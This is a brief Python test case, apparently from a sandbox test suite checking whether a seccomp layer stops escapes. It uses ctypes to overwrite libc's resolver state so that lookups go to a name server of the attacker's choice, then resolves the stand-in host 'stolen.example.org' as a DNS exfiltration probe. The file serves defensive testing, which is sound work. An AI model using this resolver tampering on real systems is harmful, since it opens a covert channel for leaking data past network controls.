"""Has the system's own resolver ask a name server of the attacker's choice, in C.

attacked: crashed
layer: seccomp
"""

import ctypes
import socket
import struct

NAMESERVER = 20  # where in the resolver's state the first server's address stands, after their number


def attacked(x):
    libc = ctypes.CDLL(None)
    libc.__res_state.restype = ctypes.c_void_p
    state = libc.__res_state()
    libc.__res_ninit(ctypes.c_void_p(state))
    server = struct.pack("=H", socket.AF_INET) + struct.pack(">H4s8x", int("@PORT@"), bytes([127, 0, 0, 1]))
    ctypes.memmove(state, struct.pack("=ii", 1, 1), 8)  # one second, one try
    ctypes.memmove(state + NAMESERVER - 4, struct.pack("=i", 1) + server, 4 + len(server))
    return x + len(socket.gethostbyname("stolen.example.org")) / 9
